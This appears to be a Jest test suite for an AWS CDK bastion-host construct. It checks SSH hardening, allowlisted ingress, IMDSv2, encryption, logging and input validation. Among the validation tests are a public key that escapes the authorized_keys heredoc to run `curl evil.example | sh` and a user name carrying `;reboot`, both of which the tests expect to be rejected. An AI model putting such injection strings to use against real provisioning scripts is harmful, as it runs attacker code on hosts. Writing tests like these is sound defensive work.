import { Template } from 'aws-cdk-lib/assertions';
import * as ec2 from 'aws-cdk-lib/aws-ec2';
import * as kms from 'aws-cdk-lib/aws-kms';
import * as logs from 'aws-cdk-lib/aws-logs';
import { Bastion, type BastionProps } from '../../lib/aws/bastion';
import { SSHD_HARDENING } from '../../lib/config/ssh-keys';
import { REMOVE_INSTANCE_CONNECT } from '../../lib/aws/linux-host-access';
import { KEYS } from '../fixtures/ssh-keys';
import {
  acknowledgements,
  getAtt,
  idSource,
  joined,
  logicalId,
  ref,
  resourceOf,
  resourcesOfType,
  securityGroupRules,
  testStack,
  testVpc,
} from './support';

const stack = testStack();
const vpc = testVpc(stack);
const volumeKey = new kms.Key(stack, 'DataKey');
const authLogGroup = new logs.LogGroup(stack, 'AuthLogs', { logGroupName: '/acme/hosts/auth' });
const appSg = new ec2.SecurityGroup(stack, 'AppSg', { vpc, allowAllOutbound: false });
const bastion = new Bastion(stack, 'Bastion', {
  vpc,
  subnets: { subnetGroupName: 'Public' },
  allowedCidrs: ['198.51.100.10/32', '203.0.113.0/24', '2001:db8:1234::/48'],
  users: [
    { name: 'alice', publicKeys: [KEYS.ed25519] },
    { name: 'bob', publicKeys: [KEYS.rsa4096, `  ${KEYS.otherEd25519}  `] },
  ],
  volumeKey,
  authLogGroup,
});
// A tier admits the bastion through aws-cdk-lib's own IConnectable wiring.
appSg.connections.allowFrom(bastion, ec2.Port.tcp(22), 'SSH from the bastion');
const template = Template.fromStack(stack);
const instance = resourceOf(template, bastion.resource);
const script = joined(instance.Properties.UserData);
const lines = script.split('\n');

/** The lines of one user's authorized_keys heredoc. */
function authorizedKeys(user: string): string[] {
  const start = lines.indexOf(`cat > /home/${user}/.ssh/authorized_keys <<'KEYS'`);
  expect(start).toBeGreaterThan(-1);
  const end = lines.indexOf('KEYS', start + 1);
  return lines.slice(start + 1, end);
}

describe('Bastion', () => {
  it('marks the instance as the bastion in its template metadata, the only way the checks recognise one', () => {
    expect(instance.Metadata).toMatchObject({ 'baseline:role': 'bastion' });
    // The marker is the instance's own: nothing else of the construct carries it.
    const marked = Object.entries<any>(template.toJSON().Resources)
      .filter(([, r]) => r.Metadata?.['baseline:role'] !== undefined)
      .map(([id]) => id);
    expect(marked).toEqual([logicalId(bastion.resource.instance)]);
  });

  it('admits SSH from exactly the allowlisted IPv4 and IPv6 ranges', () => {
    expect(securityGroupRules(template, bastion.securityGroup).ingress).toEqual([
      'tcp 22 198.51.100.10/32',
      'tcp 22 2001:db8:1234::/48',
      'tcp 22 203.0.113.0/24',
    ]);
    const sg = resourceOf(template, bastion.securityGroup).Properties;
    expect(sg.SecurityGroupIngress.find((r: any) => r.CidrIpv6)).toMatchObject({
      CidrIpv6: '2001:db8:1234::/48',
      FromPort: 22,
      ToPort: 22,
      IpProtocol: 'tcp',
    });
  });

  it('is an IConnectable of its own security group, SSH as default port', () => {
    expect(bastion.connections.securityGroups).toEqual([bastion.securityGroup]);
    expect(bastion.connections.defaultPort?.toString()).toBe('22');
  });

  it('sends nothing to the internet: only SSH to the tiers it is allowed into (the stack adds the VPC endpoints and mirrors)', () => {
    expect(securityGroupRules(template, bastion.securityGroup).egress).toEqual([`tcp 22 sg:${logicalId(appSg)}`]);
  });

  it('uses no EC2 key pair anywhere', () => {
    expect(JSON.stringify(template.toJSON())).not.toMatch(/KeyName/);
    template.resourceCountIs('AWS::EC2::KeyPair', 0);
  });

  it('requires IMDSv2 with one hop on the instance itself', () => {
    expect(instance.Properties.MetadataOptions).toEqual({ HttpTokens: 'required', HttpPutResponseHopLimit: 1, HttpEndpoint: 'enabled' });
  });

  it('launches through a template that requires IMDSv2 and enables detailed monitoring', () => {
    const ltId = instance.Properties.LaunchTemplate.LaunchTemplateId.Ref;
    const lt = template.toJSON().Resources[ltId].Properties.LaunchTemplateData;
    expect(lt.MetadataOptions).toEqual({ HttpTokens: 'required', HttpPutResponseHopLimit: 1 });
    expect(lt.Monitoring).toEqual({ Enabled: true });
    expect(instance.Properties.LaunchTemplate.Version).toEqual(getAtt(bastion.node.findChild('LaunchTemplate'), 'LatestVersionNumber'));
  });

  it('monitors in detail', () => {
    expect(instance.Properties).toMatchObject({ Monitoring: true, EbsOptimized: true, InstanceType: 'c7a.medium' });
  });

  it('is replaced, not updated, when a user or key changes, so no stale account survives', () => {
    const idWith = (users: BastionProps['users']) => {
      const s = testStack('Replace');
      const v = testVpc(s);
      const b = new Bastion(s, 'Bastion', {
        vpc: v,
        subnets: { subnetGroupName: 'Public' },
        allowedCidrs: ['198.51.100.10/32'],
        users,
        volumeKey: new kms.Key(s, 'Key'),
        authLogGroup: new logs.LogGroup(s, 'Logs'),
      });
      return logicalId(b.resource);
    };
    const alice = idWith([{ name: 'alice', publicKeys: [KEYS.ed25519] }]);
    expect(idWith([{ name: 'alice', publicKeys: [KEYS.ed25519] }])).toBe(alice);
    expect(idWith([{ name: 'alice', publicKeys: [KEYS.otherEd25519] }])).not.toBe(alice);
    expect(
      idWith([
        { name: 'alice', publicKeys: [KEYS.ed25519] },
        { name: 'bob', publicKeys: [KEYS.rsa4096] },
      ]),
    ).not.toBe(alice);
    // Termination protection would make that replacement fail.
    expect(instance.Properties.DisableApiTermination).toBeUndefined();
    expect(acknowledgements(bastion.resource)['AwsSolutions::AwsSolutions-EC29']).toMatch(/replaced whenever a user or key changes/);
  });

  it('removes EC2 Instance Connect at boot and ignores any AuthorizedKeysCommand, so no IAM-pushed key logs in', () => {
    expect(lines).toContain(REMOVE_INSTANCE_CONNECT);
    expect(lines.indexOf(REMOVE_INSTANCE_CONNECT)).toBeLessThan(lines.indexOf('systemctl restart sshd'));
    expect(lines).toContain('AuthorizedKeysCommand none');
    expect(lines).toContain('AuthorizedKeysFile .ssh/authorized_keys');
  });

  it('encrypts the root volume under the volume key in its launch template too', () => {
    const lt = resourcesOfType(template, 'AWS::EC2::LaunchTemplate')[0][1].Properties.LaunchTemplateData;
    expect(lt.BlockDeviceMappings).toEqual([
      {
        DeviceName: '/dev/xvda',
        Ebs: { DeleteOnTermination: true, Encrypted: true, KmsKeyId: getAtt(volumeKey, 'Arn'), VolumeSize: 8, VolumeType: 'gp3' },
      },
    ]);
  });

  it('encrypts the root volume under the volume key', () => {
    expect(instance.Properties.BlockDeviceMappings).toEqual([
      {
        DeviceName: '/dev/xvda',
        Ebs: { DeleteOnTermination: true, Encrypted: true, KmsKeyId: getAtt(volumeKey, 'Arn'), VolumeSize: 8, VolumeType: 'gp3' },
      },
    ]);
  });

  it('has a public address in the first public subnet, behind its security group', () => {
    expect(instance.Properties.NetworkInterfaces).toEqual([
      {
        AssociatePublicIpAddress: true,
        DeviceIndex: '0',
        GroupSet: [getAtt(bastion.securityGroup, 'GroupId')],
        SubnetId: ref(vpc.publicSubnets[0]),
      },
    ]);
  });

  it.each(SSHD_HARDENING)('hardens sshd with "%s"', (line) => {
    const start = lines.indexOf("cat > /etc/ssh/sshd_config.d/00-baseline.conf <<'SSHD'");
    const end = lines.indexOf('SSHD', start);
    expect(lines.slice(start + 1, end)).toContain(line);
  });

  it('disables passwords and root login in sshd', () => {
    for (const line of [
      'PasswordAuthentication no',
      'KbdInteractiveAuthentication no',
      'PermitRootLogin no',
      'AuthenticationMethods publickey',
    ]) {
      expect(SSHD_HARDENING).toContain(line);
    }
  });

  it('allows only the configured users to log in', () => {
    expect(lines).toContain('AllowUsers alice bob');
    expect(lines.filter((l) => l.startsWith('AllowUsers'))).toHaveLength(1);
  });

  it("puts each user's keys in that user's authorized_keys only", () => {
    expect(authorizedKeys('alice')).toEqual([KEYS.ed25519]);
    expect(authorizedKeys('bob')).toEqual([KEYS.rsa4096, KEYS.otherEd25519]);
    for (const key of [KEYS.ed25519, KEYS.rsa4096, KEYS.otherEd25519]) {
      expect(lines.filter((l) => l === key)).toHaveLength(1);
    }
  });

  it('locks root, every user password and the default ec2-user', () => {
    for (const line of [
      'passwd -l root',
      'passwd -l alice',
      'passwd -l bob',
      'if id ec2-user >/dev/null 2>&1; then usermod -L -s /sbin/nologin ec2-user; fi',
    ]) {
      expect(lines).toContain(line);
    }
  });

  it('validates the sshd config before restarting it', () => {
    expect(lines.indexOf('sshd -t')).toBeGreaterThan(lines.indexOf('SSHD'));
    expect(lines.indexOf('sshd -t')).toBeLessThan(lines.indexOf('systemctl restart sshd'));
    expect(lines[0]).toBe('#!/bin/bash');
    expect(lines[1]).toBe('set -euo pipefail');
  });

  it('ships the SSH authentication log to the auth log group', () => {
    const start = lines.indexOf("cat > /opt/aws/amazon-cloudwatch-agent/etc/amazon-cloudwatch-agent.json <<'AGENT'");
    expect(start).toBeGreaterThan(-1);
    const config = lines[start + 1].replace('${' + JSON.stringify(ref(authLogGroup)) + '}', '<auth-log-group>');
    expect(JSON.parse(config).logs.logs_collected.files.collect_list).toEqual([
      { file_path: '/var/log/secure', log_group_name: '<auth-log-group>', log_stream_name: '{instance_id}/secure', retention_in_days: -1 },
    ]);
    expect(lines).toContain(
      'AWS_REGION=eu-west-1 /opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c ' +
        'file:/opt/aws/amazon-cloudwatch-agent/etc/amazon-cloudwatch-agent.json',
    );
  });

  it('lets the instance role only write to that log group', () => {
    const profile = template.toJSON().Resources[instance.Properties.IamInstanceProfile.Ref];
    const roleId = profile.Properties.Roles[0].Ref;
    const role = template.toJSON().Resources[roleId].Properties;
    expect(role.ManagedPolicyArns).toBeUndefined();
    expect(role.AssumeRolePolicyDocument.Statement).toEqual([
      { Action: 'sts:AssumeRole', Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' } },
    ]);
    const policies = resourcesOfType(template, 'AWS::IAM::Policy').filter(([, p]) => p.Properties.Roles.some((r: any) => r.Ref === roleId));
    expect(policies).toHaveLength(1);
    expect(policies[0][1].Properties.PolicyDocument.Statement).toEqual([
      {
        Action: ['logs:CreateLogStream', 'logs:DescribeLogStreams', 'logs:PutLogEvents'],
        Effect: 'Allow',
        Resource: getAtt(authLogGroup, 'Arn'),
      },
    ]);
  });

  it('acknowledges its public IP with a reason naming the compensating controls', () => {
    const acks = acknowledgements(bastion.resource);
    for (const id of [
      'HIPAA.Security::HIPAA.Security-EC2InstanceNoPublicIp',
      'NIST.800.53.R4::NIST.800.53.R4-EC2InstanceNoPublicIp',
      'NIST.800.53.R5::NIST.800.53.R5-EC2InstanceNoPublicIp',
      'PCI.DSS.321::PCI.DSS.321-EC2InstanceNoPublicIp',
      'cdk-validator-cfnguard::ec2_instance_no_public_ip_check',
    ]) {
      expect(acks[id]).toMatch(/allowlist/);
      expect(acks[id].length).toBeGreaterThanOrEqual(40);
    }
    expect(acks['HIPAA.Security::HIPAA.Security-EC2InstancesInVPC']).toMatch(/SubnetId/);
  });

  describe('errors', () => {
    const scratch = testStack('Scratch');
    const scratchVpc = testVpc(scratch);
    const key = new kms.Key(scratch, 'Key');
    const group = new logs.LogGroup(scratch, 'Logs');
    const id = idSource();
    const make = (over: Partial<BastionProps>) => () =>
      new Bastion(scratch, id(), {
        vpc: scratchVpc,
        subnets: { subnetGroupName: 'Public' },
        allowedCidrs: ['198.51.100.10/32'],
        users: [{ name: 'alice', publicKeys: [KEYS.ed25519] }],
        volumeKey: key,
        authLogGroup: group,
        ...over,
      });

    it('fails on an empty allowlist', () => {
      expect(make({ allowedCidrs: [] })).toThrow(
        /Bastion\.allowedCidrs: received an empty list; expected at least one office or VPN egress range/,
      );
    });

    it.each(['0.0.0.0/0', '::/0'])('fails when the allowlist contains %s', (cidr) => {
      expect(make({ allowedCidrs: ['198.51.100.10/32', cidr] })).toThrow(
        new RegExp(`Bastion\\.allowedCidrs\\[1\\]: received "${cidr.replace(/\./g, '\\.')}", which opens the port to the whole internet`),
      );
    });

    it.each([
      ['10.0.0.0/16', /broader than the allowed maximum \/24 for IPv4/],
      ['2001:db8::/32', /broader than the allowed maximum \/48 for IPv6/],
      ['198.51.100.10/24', /has host bits set/],
      ['198.51.100.10', /is not in CIDR notation/],
      ['::ffff:0:0/96', /IPv4-mapped IPv6 block/],
    ])('fails when the allowlist contains %s', (cidr, why) => {
      expect(make({ allowedCidrs: [cidr] })).toThrow(/Bastion\.allowedCidrs\[0\]: received/);
      expect(make({ allowedCidrs: [cidr] })).toThrow(why);
    });

    it('honours a wider allowlist limit when configured', () => {
      expect(make({ allowedCidrs: ['10.0.0.0/16'], maxAllowlistPrefix: { ipv4: 16, ipv6: 48 } })).not.toThrow();
    });

    it('fails on empty users', () => {
      expect(make({ users: [] })).toThrow(/Bastion\.users: received an empty list; expected at least one person with a public key/);
    });

    it.each(['root', 'Alice', '1alice', 'al ice', 'alice;reboot', ''])('fails on the user name %p', (name) => {
      expect(make({ users: [{ name, publicKeys: [KEYS.ed25519] }] })).toThrow(
        /Bastion\.users\[0\]\.name: received ".*"; expected a personal Linux user name \(lower case, not root or a shared account\)/,
      );
    });

    it('fails on duplicate users', () => {
      expect(
        make({
          users: [
            { name: 'alice', publicKeys: [KEYS.ed25519] },
            { name: 'alice', publicKeys: [KEYS.otherEd25519] },
          ],
        }),
      ).toThrow(/Bastion\.users\[1\]\.name: received "alice" twice; merge the entries/);
    });

    it('fails on a user with no keys', () => {
      expect(make({ users: [{ name: 'alice', publicKeys: [] }] })).toThrow(
        /Bastion\.users\[0\]\.publicKeys: received an empty list; expected at least one public key/,
      );
    });

    it('fails on an RSA 2048 key', () => {
      expect(make({ users: [{ name: 'alice', publicKeys: [KEYS.ed25519, KEYS.rsa2048] }] })).toThrow(
        /Bastion\.users\[0\]\.publicKeys\[1\]: received a key that is an RSA key of 2048 bits .*at least 3072 bits are required/,
      );
    });

    it('accepts an RSA 2048 key only when minRsaBits is lowered', () => {
      expect(make({ users: [{ name: 'alice', publicKeys: [KEYS.rsa2048] }], minRsaBits: 2048 })).not.toThrow();
    });

    it('fails on a DSA key', () => {
      expect(make({ users: [{ name: 'alice', publicKeys: [KEYS.dsa] }] })).toThrow(
        /Bastion\.users\[0\]\.publicKeys\[0\]: received a key that is a DSA key/,
      );
    });

    it('fails on a private key', () => {
      expect(
        make({ users: [{ name: 'alice', publicKeys: ['-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----'] }] }),
      ).toThrow(/Bastion\.users\[0\]\.publicKeys\[0\]: received a key that is a PRIVATE key/);
    });

    it('fails on a key that would break out of the authorized_keys heredoc', () => {
      expect(make({ users: [{ name: 'alice', publicKeys: [`${KEYS.ed25519}\nKEYS\ncurl evil.example | sh`] }] })).toThrow(
        /Bastion\.users\[0\]\.publicKeys\[0\]: received a key that is not an OpenSSH public key/,
      );
    });
  });
});
